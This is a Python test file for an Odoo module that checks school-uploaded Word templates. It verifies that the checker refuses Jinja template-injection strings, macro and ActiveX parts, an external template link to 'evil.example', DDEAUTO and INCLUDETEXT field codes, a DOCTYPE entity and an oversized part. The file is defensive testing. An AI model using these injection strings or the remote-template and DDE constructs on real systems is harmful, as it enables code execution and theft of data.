"""A school's own Word templates: what is taken, what is refused in words, and what they can never do (PLUS-D1)."""

import base64
import io
import re
import unittest
import zipfile

import docx

from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from odoo.addons.duban_supervision_word.tools import word_template

from tests.clauses import clause
from tests.common import SupervisionCommon
from tests.duban_supervision_abaf.common import AbafCommon

FIELDS = ("编号", "name", "事项")
LISTS = {"进展": ["日期", "内容"]}


def word_file(*paragraphs, rows=(), header=""):
    """A .docx with these paragraphs and table rows."""
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if rows:
        table = document.add_table(rows=0, cols=len(rows[0]))
        for row in rows:
            for cell, text in zip(table.add_row().cells, row, strict=True):
                cell.text = text
    if header:
        document.sections[0].header.paragraphs[0].text = header
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def changed(content, name, change):
    """The file with the part ``name`` changed by a function, or added."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        with zipfile.ZipFile(stream, "w") as target:
            names = source.namelist()
            for part in names:
                data = source.read(part)
                target.writestr(part, change(data) if part == name else data)
            if name not in names:
                target.writestr(name, change(b""))
    return stream.getvalue()


@tagged("post_install", "-at_install")
class TestCheck(unittest.TestCase):
    """The three walls; needs neither database nor engine."""

    def refused(self, content, code):
        with self.assertRaises(word_template.Refused) as error:
            word_template.check(content, FIELDS, LISTS)
        self.assertEqual(error.exception.code, code)
        return error.exception.values

    @clause("PLUS-D1")
    def test_what_is_used(self):
        content = word_file(
            "{{ 编号 }} {% if name %}{{ name }}{% endif %}",
            rows=[
                ("{%tr for row in 进展 %}", ""),
                ("{{ row.日期 }}", "{{ row['内容'] }}{{ loop.index }}"),
                ("{%tr endfor %}", ""),
            ],
            header="{{ 事项 | default('无') }}",
        )
        self.assertEqual(
            word_template.check(content, FIELDS, LISTS),
            {"编号", "name", "事项", "进展", "进展.日期", "进展.内容"},
        )

    @clause("PLUS-D1")
    def test_unknown_fields_are_named_with_what_there_is(self):
        values = self.refused(word_file("{{ 编好 }} {{ naem }}"), "unknown")
        self.assertEqual(values["names"], ["naem", "编好"])
        self.assertEqual(set(values["known"]), {*FIELDS, *LISTS})
        self.assertEqual(values["meant"], {"naem": "name", "编好": "编号"})
        values = self.refused(
            word_file("{% for row in 进展 %}{{ row.天气 }}{% endfor %}"), "unknown"
        )
        self.assertEqual(values["names"], ["进展.天气"])
        self.assertEqual(
            self.refused(word_file("x", header="{{ 页眉 }}"), "unknown")["names"],
            ["页眉"],
        )

    @clause("PLUS-D1")
    def test_what_jinja_cannot_read(self):
        for text in (
            "{{ 编号", "{% if 编号 %}", "{{ }}", "{% endfor %}", "{% for in 进展 %}", "{{ 编号 | | }}",
            "{% whatever %}",
        ):  # fmt: skip
            with self.subTest(text=text):
                # an opening without an end is text to Jinja, so only what it reads is refused
                try:
                    word_template.check(word_file(text), FIELDS, LISTS)
                except word_template.Refused as refused:
                    self.assertIn(refused.code, ("syntax", "forbidden"))
                    self.assertTrue(refused.values.get("message", "x"))
                else:
                    self.fail("taken")
        self.assertEqual(self.refused(word_file("{{ 进展 }}"), "is_list"), {"name": "进展"})  # fmt: skip
        self.refused(word_file("{% for row in 编号 %}x{% endfor %}"), "is_text")

    @clause("PLUS-D1")
    def test_nothing_is_run(self):
        """Attributes, calls, imports, assignments, other filters and tests, arithmetic: all are refused at upload."""
        for text in (
            "{{ 编号.__class__ }}", "{{ 编号.env }}", "{{ 编号['env'] }}", "{{ 编号[0] }}",
            "{{ ''.__class__.__mro__ }}", "{{ 编号.upper() }}", "{{ range(9) }}", "{{ self }}",
            "{{ self.__init__ }}", "{{ cycler }}", "{{ lipsum() }}", "{{ dict(a=1) }}", "{{ namespace() }}",
            "{{ 编号 | attr('x') }}", "{{ 编号 | map('x') }}", "{{ 编号 | replace('', 'xxxx') }}",
            "{{ 编号 * 999999999 }}", "{{ 'x' * 9 }}", "{{ 2 ** 99 }}", "{{ 编号 ~ 编号 }}", "{% set x = 1 %}",
            "{% import 'x' as y %}", "{% include 'x' %}", "{% extends 'x' %}", "{% macro m() %}{% endmacro %}",
            "{% block b %}{% endblock %}", "{% raw %}{{ x }}{% endraw %}{% do x %}",
            "{% call x() %}{% endcall %}", "{% filter upper %}x{% endfilter %}",
            "{% for row in 进展 %}{{ row.__class__ }}{% endfor %}",
            "{% for row in 进展 %}{{ loop.cycle }}{% endfor %}", "{% for row in 进展 recursive %}{% endfor %}",
            "{% for row in 进展 %}{{ row.日期.__class__ }}{% endfor %}", "{% for c in '编号' %}{% endfor %}",
            "{% for a, b in 进展 %}{% endfor %}", "{{ request }}", "{{ env }}", "{{ 编号 is defined }}",
            "{{ [1, 2] }}",
            "{% for a in 进展 %}{% for b in 进展 %}{% for c in 进展 %}{% endfor %}{% endfor %}{% endfor %}",
            "{{ {'a': 1} }}", "{%tr for x in [1] %}", "{% with %}{% endwith %}",
            "{% autoescape false %}{{ 编号 }}{% endautoescape %}",
        ):  # fmt: skip
            with self.subTest(text=text), self.assertRaises(word_template.Refused):
                word_template.check(word_file(text), FIELDS, LISTS)

    @clause("PLUS-D1")
    def test_nothing_is_run_when_filled_in_either(self):
        """What the check would have refused does nothing when filled in: no attribute, no call, no method."""

        class Bait(str):
            """A text with something to steal."""

            env = "SECRET"

        values = {"编号": Bait("一号"), "进展": [{"日期": "今天", "内容": "x"}]}
        for text in (
            "{{ 编号.env }}", "{{ 编号.upper() }}", "{{ 编号['env'] }}", "{{ 进展.append }}",
            "{{ 进展[0].items() }}", "{{ 进展.__class__ }}", "{% for row in 进展 %}{{ row.keys() }}{% endfor %}",
            "{{ range(3) }}",
        ):  # fmt: skip
            with self.subTest(text=text), self.assertRaises(word_template.Refused):
                made = word_template.text(word_template.fill(word_file(text), values))
                self.assertNotIn("SECRET", made)
                self.assertNotIn("class", made)

    @clause("PLUS-D1")
    def test_values_are_text(self):
        """Markup, instructions and control characters in a value stay what they are: text; rare characters are kept."""
        value = "<w:p/>&amp; {{ 编号 }} {% if x %} \x07\x0c\x01 𠮷𬭩𫖯䶮㛃\n第二行"
        made = word_template.fill(
            word_file("甲{{ 编号 }}乙"), {"编号": value}, comment="version 1"
        )
        text = word_template.text(made)
        self.assertEqual(
            text, "甲<w:p/>&amp; {{ 编号 }} {% if x %}  𠮷𬭩𫖯䶮㛃\n第二行乙"
        )
        self.assertEqual(
            docx.Document(io.BytesIO(made)).core_properties.comments, "version 1"
        )

    def test_rows(self):
        rows = [
            ("{%tr for row in 进展 %}", ""),
            ("{{ row.日期 }}", "{{ row.内容 }}"),
            ("{%tr endfor %}", ""),
        ]
        values = {"进展": [{"日期": "一", "内容": "甲"}, {"日期": "二", "内容": "乙"}]}
        made = word_template.fill(word_file(rows=rows), values)
        self.assertEqual(word_template.text(made), "一 | 甲\n二 | 乙")

    @clause("PLUS-D1")
    def test_files(self):
        """No Word file, macros, embedded objects, links to outside, fetching fields, bombs: refused."""
        good = word_file("{{ 编号 }}")
        self.refused(b"nonsense", "no_docx")
        self.refused(b"", "no_docx")
        main = b"document.main+xml"
        self.refused(
            changed(
                good,
                "[Content_Types].xml",
                lambda data: data.replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml."
                    + main,
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                ),
            ),
            "no_docx",
        )
        for name in ("word/vbaProject.bin", "word/embeddings/a.xlsx", "word/activeX/x.xml"):  # fmt: skip
            self.refused(changed(good, name, lambda _data: b"x"), "macros")
        link = (
            b'<Relationship Id="r99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
        )
        rels = "word/_rels/document.xml.rels"
        for kind, code in ((b"attachedTemplate", "outside"), (b"image", "outside")):
            values = self.refused(
                changed(
                    good,
                    rels,
                    lambda data, kind=kind: data.replace(
                        b"</Relationships>", link % kind
                    ),
                ),
                code,
            )
            self.assertIn("evil.example", values["part"])
        word_template.check(
            changed(
                good,
                rels,
                lambda data: data.replace(b"</Relationships>", link % b"hyperlink"),
            ),
            FIELDS,
            LISTS,
        )
        for text in ("DDEAUTO c:\\\\cmd", "INCLUDETEXT http://x"):
            runs = (
                f"<w:r><w:instrText>{part}</w:instrText></w:r>"
                for part in (text[:4], text[4:])
            )
            field = f"<w:p>{''.join(runs)}</w:p>"
            self.refused(
                changed(
                    good,
                    "word/document.xml",
                    lambda data, field=field: data.replace(
                        b"<w:sectPr", field.encode() + b"<w:sectPr", 1
                    ),
                ),
                "fetches",
            )
        self.refused(
            changed(
                good,
                "word/document.xml",
                lambda data: data.replace(
                    b"?>", b"?><!DOCTYPE a [<!ENTITY b 'c'>]>", 1
                ),
            ),
            "no_docx",
        )
        self.refused(changed(good, "word/big.xml", lambda _data: b" " * 4_000_000), "too_large")  # fmt: skip


class TemplateCase:
    """A template of the assignment notice."""

    document = "duban_supervision.action_report_notice"

    def template(self, document=None, **values):
        return (
            self.env["duban.word.template"]
            .with_user(self.admin)
            .create(
                {
                    "report_id": self.env.ref(document or self.document).id,
                    "regulation_id": self.regulation.id,
                    **values,
                }
            )
        )

    def upload(self, template, *paragraphs, **parts):
        content = word_file(*paragraphs, **parts)
        template.write({"upload": base64.b64encode(content), "upload_name": "通知.docx"})  # fmt: skip
        return template

    def made(self, matter, user=None, document=None):
        report = self.env.ref(document or self.document).with_user(
            user or self.office_user
        )
        return report.sudo(False)._duban_word(matter.ids)

    def text(self, *args, **options):
        return word_template.text(self.made(*args, **options)[0])


@tagged("post_install", "-at_install")
class TestTemplate(TemplateCase, SupervisionCommon):
    def setUp(self):
        super().setUp()
        self.at("2024-03-04")

    @clause("PLUS-D1")
    def test_from_upload_to_use(self):
        matter = self.accepted(co_unit_ids=self.units(self.unit_b))
        before = self.text(matter)
        template = self.upload(
            self.template(), "本校通知 {{ number }} {{ name }}", "{{ 学校名称 }}"
        )
        self.assertEqual(template.draft_id.state, "draft")
        # tried, but not in use
        template.preview_id = matter.id
        self.assertIn(f"本校通知 {matter.number} {matter.name}", template.preview_text)
        self.assertIn("/duban/word/preview/", template.action_preview()["url"])
        self.assertEqual(self.text(matter), before)
        template.action_use()
        made = self.text(matter)
        self.assertEqual(
            made,
            f"本校通知 {matter.number} {matter.name}\n{self.regulation.institution}",
        )

        # the next version is tried beside the one in use, then takes its place
        self.upload(template, "第二版 {{ number }}")
        self.assertEqual(self.text(matter), made)
        template.action_use()
        self.assertEqual(self.text(matter), f"第二版 {matter.number}")
        self.assertEqual(
            template.version_ids.sorted("number", reverse=True).mapped(
                lambda row: (row.number, row.state)
            ),
            [(2, "used"), (1, "replaced")],
        )
        # archived: as the suite prints it
        template.active = False
        self.assertEqual(self.text(matter), before)

    @clause("PLUS-D1")
    def test_a_kept_file_stays_as_it_was_made(self):
        matter = self.accepted()
        template = self.upload(self.template(), "第一版 {{ number }}")
        template.action_use()
        Dialog = (
            self.env["duban.word"]
            .with_user(self.office_user)
            .with_context(active_model="duban.matter", active_ids=matter.ids)
        )
        report = str(self.env.ref(self.document).id)
        dialog = Dialog.create({"report": report})
        self.assertTrue(dialog.may_keep)
        self.assertIn("1", dialog.template_label)
        dialog.action_keep()
        kept = self.env["ir.attachment"].search(
            [("res_model", "=", "duban.matter"), ("res_id", "=", matter.id), ("name", "like", "%.docx")]
        )  # fmt: skip
        self.assertEqual(len(kept), 1)
        content = kept.raw
        self.assertEqual(word_template.text(content), f"第一版 {matter.number}")
        said = docx.Document(io.BytesIO(content)).core_properties.comments
        self.assertIn(template.current_id.fingerprint, said)
        self.upload(template, "第二版 {{ number }}")
        template.action_use()
        self.assertEqual(kept.raw, content)
        # the version that made it cannot be changed or removed
        first = template.version_ids.filtered(lambda row: row.number == 1)
        for attempt in (
            first.unlink,
            lambda: first.write({"content": base64.b64encode(b"x")}),
            lambda: first.write({"state": "used"}),
        ):
            with self.assertRaises(UserError):
                attempt()
        # who keeps nothing may download all the same
        theirs = Dialog.with_user(self.worker_a).create({"report": report})
        self.assertFalse(theirs.may_keep)
        with self.assertRaises(AccessError):
            theirs.action_keep()

    @clause("PLUS-D1")
    def test_refused_in_words(self):
        """In Chinese, with the fields there are, and nothing is changed."""
        template = self.upload(self.template(), "{{ number }}").with_context(
            lang="zh_CN"
        )
        for text, *expected in (
            ("{{ 编码 }}", "编码", "number"),
            ("{{ numbr }}", "numbr", "number"),
            ("{{ name.env }}", "name.env"),
            ("{% if name %}", "endif"),
            ("{{ feedback_ids }}", "feedback_ids"),
        ):
            with (
                self.subTest(text=text),
                self.cr.savepoint(),
                self.assertRaises(ValidationError) as error,
            ):
                self.upload(template, text)
            for word in expected:
                self.assertIn(word, str(error.exception))
            self.assertRegex(str(error.exception), "[\u4e00-\u9fff]")
        with self.cr.savepoint(), self.assertRaises(ValidationError) as error:
            template.write({"upload": base64.b64encode(b"no word file")})
        self.assertIn(".docx", str(error.exception))
        self.assertEqual(template.version_ids.mapped("number"), [1])

    @clause("PLUS-D1")
    def test_lists(self):
        matter = self.accepted()
        self.feedback(matter, name="完成招标")
        rows = [
            ("{%tr for row in feedback_ids %}", ""),
            ("{{ row.date }}", "{{ row.name }}"),
            ("{%tr endfor %}", ""),
        ]
        self.upload(self.template(), "{{ number }}", rows=rows).action_use()
        self.assertIn("2024年3月4日 | 完成招标", self.text(matter))

    @clause("PLUS-D1")
    def test_ledger(self):
        """A document of several records: its rows are a list."""
        matters = self.accepted() | self.accepted(name="修缮操场")
        rows = [
            ("{%tr for row in rows %}", ""),
            ("{{ row.number }}", "{{ row.name }}"),
            ("{%tr endfor %}", ""),
        ]
        document = "duban_supervision.action_report_ledger"
        self.upload(self.template(document), "台账", rows=rows).action_use()
        text = self.text(matters, document=document)
        for matter in matters:
            self.assertIn(f"{matter.number} | {matter.name}", text)

    def test_several_records_are_an_archive(self):
        matters = self.accepted() | self.accepted(name="修缮操场")
        self.upload(self.template(), "{{ name }}").action_use()
        content, name = self.made(matters)
        self.assertTrue(name.endswith(".zip"))
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            texts = [
                word_template.text(archive.read(each)) for each in archive.namelist()
            ]
        self.assertEqual(texts, matters.mapped("name"))

    @clause("PLUS-D1")
    def test_protected_and_foreign_records(self):
        """The template gives nobody more than the print: who does not read the record, who is not on its list."""
        secret = self.accepted(name="机密事项", confidentiality="sensitive")
        template = self.upload(
            self.template(),
            "{{ number }}{{ name }}{{ content }}{% for row in plan_line_ids %}{{ row.name }}{% endfor %}",
        )
        template.action_use()
        self.assertIn("机密事项", self.text(secret))
        with self.assertRaises(AccessError):
            self.made(secret, user=self.worker_b)
        masked = secret.with_user(self.office_user).with_context(duban_masked=True)
        made = word_template.text(template.current_id.sudo(False)._make(masked))
        self.assertEqual(made, secret.number)
        # an administrator who is not on the list tries it with no protected matter
        tried = template.with_user(self.admin)
        tried.preview_id = secret.id
        self.assertFalse(tried.preview_text)
        with self.assertRaises(UserError):
            tried.action_preview()

    @clause("PLUS-D1")
    def test_who_changes_them(self):
        template = self.upload(self.template(), "{{ number }}")
        for user in (self.office_user, self.worker_a, self.leader):
            with self.assertRaises(AccessError):
                template.with_user(user).write({"name": "x"})
            with self.assertRaises(AccessError):
                template.with_user(user).action_use()
        for user in (self.worker_a, self.leader):
            with self.assertRaises(AccessError):
                template.with_user(user).read(["name"])
        self.assertEqual(template.with_user(self.office_user).name, template.name)
        with self.assertRaises(UserError):
            template.report_id = self.env.ref("duban_supervision.action_report_records")
        with self.assertRaises(AccessError):
            self.env["duban.word.version"].with_user(self.admin).create(
                {"template_id": template.id, "number": 9, "content": "eA=="}
            )

    def test_no_field_for_a_group_only_and_none_of_the_machinery(self):
        fields, lists = self.env.ref(self.document)._duban_word_names(self.regulation)
        self.assertIn("name", fields)
        self.assertIn("basis_document", fields)
        for name in ("create_uid", "message_ids", "access_user_ids_", "is_office_user"):
            self.assertNotIn(name, fields)
            self.assertNotIn(name, lists)
        for key in set(fields.values()):
            field = self.env["duban.matter"]._fields.get(key)
            self.assertFalse(field and field.groups, key)


@tagged("post_install", "-at_install")
class TestTemplateOfAnInstitution(TemplateCase, AbafCommon):
    """阿坝职业学院: the fields bear the names of its own form, and another institution's template does not count."""

    document = "duban_supervision_abaf.action_report_filing_form"

    @clause("PLUS-D1")
    def test_words_of_the_form(self):
        self.at("2024-03-04")
        matter = self.accepted()
        other = self.env["duban.regulation"].create(
            {
                "name": "别校办法",
                "code": "other",
                "institution": "别校",
                "date_from": "2000-01-01",
            }
        )
        foreign = self.template(regulation_id=other.id)
        self.upload(foreign.sudo(), "别校").sudo().action_use()
        self.assertNotIn("别校", self.text(matter))
        template = self.template()
        self.assertIn("{{ 督查督办主体 }}", template.field_names)
        self.upload(template, "{{ 督查督办主体 }}|{{ 类别 }}").action_use()
        self.assertTrue(self.text(matter).startswith("教务处|"))


@tagged("post_install", "-at_install")
class TestPreviewOverHttp(TemplateCase, SupervisionCommon, HttpCase):
    def test_preview(self):
        self.at("2024-03-04")
        matter = self.accepted()
        secret = self.accepted(name="机密事项", confidentiality="sensitive")
        template = self.upload(self.template(), "{{ name }}")
        version = template.draft_id.id
        for user, record, status in (
            (self.office_user, matter, 200),
            (self.worker_a, matter, 403),
            (self.admin, secret, 403),
        ):
            user.sudo().password = user.login
            self.authenticate(user.login, user.login)
            with mute_logger("odoo.http"):
                answer = self.url_open(f"/duban/word/preview/{version}/{record.id}")
            self.assertEqual(answer.status_code, status, (user.login, record.name))
        self.authenticate(self.office_user.login, self.office_user.login)
        with mute_logger("odoo.http"):
            self.assertEqual(
                self.url_open(f"/duban/word/preview/999999/{matter.id}").status_code,
                404,
            )
        answer = self.url_open(f"/duban/word/preview/{version}/{matter.id}")
        self.assertEqual(word_template.text(answer.content), matter.name)
        self.assertTrue(re.search("wordprocessingml", answer.headers["Content-Type"]))
